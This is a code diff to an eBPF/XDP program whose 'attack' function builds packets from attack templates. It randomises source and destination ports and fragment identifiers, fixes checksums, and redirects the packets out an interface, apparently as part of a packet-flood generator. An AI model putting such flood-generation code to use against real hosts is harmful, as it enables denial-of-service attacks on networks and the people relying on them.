@@ -80,8 +80,9 @@ static __u32 tcp_write(__u8 *l4)
 	return words_of(seq) + words_of(ack);
 }
 
-static void layer4_write(__u8 *l4, const volatile struct attack_template *t, __u32 sum)
+static void layer4_write(__u8 *ip, const volatile struct attack_template *t, __u32 sum)
 {
+	__u8 *l4 = ip + (ipv6 ? 40 : 20);
 	__u32 random = bpf_get_prandom_u32();
 	__u16 source = bpf_htons((__u16)(client_port ? client_port : 1024 + random % 64512));
 	__u16 port = bpf_htons((__u16)(port_min + bpf_get_prandom_u32() % ports));
@@ -101,6 +102,10 @@ static void layer4_write(__u8 *l4, const volatile struct attack_template *t, __u
 		word_set(l4 + 4, random);
 		sum = (ipv6 ? sum : 0) + t->sum + words_of(random);
 		half_set(l4 + 2, folded(sum));
+	} else if (t->first) { /* the checksum is of bytes that never come, too */
+		l4 += ipv6 ? 8 : 0;
+		half_set(l4, source);
+		half_set(l4 + 2, port);
 	}
 }
 
@@ -126,7 +131,7 @@ int attack(struct xdp_md *ctx)
 	} else if (t->protocol == 0) {
 		word_set(l4 + 4, bpf_get_prandom_u32()); /* the fragment header's identification */
 	}
-	layer4_write(l4, t, sum);
+	layer4_write(ip, t, sum);
 	if (bpf_xdp_adjust_tail(ctx, (int)t->length - 4 * ATTACK_WORDS))
 		return XDP_ABORTED;
 	return out ? (int)bpf_redirect(out, 0) : XDP_PASS;
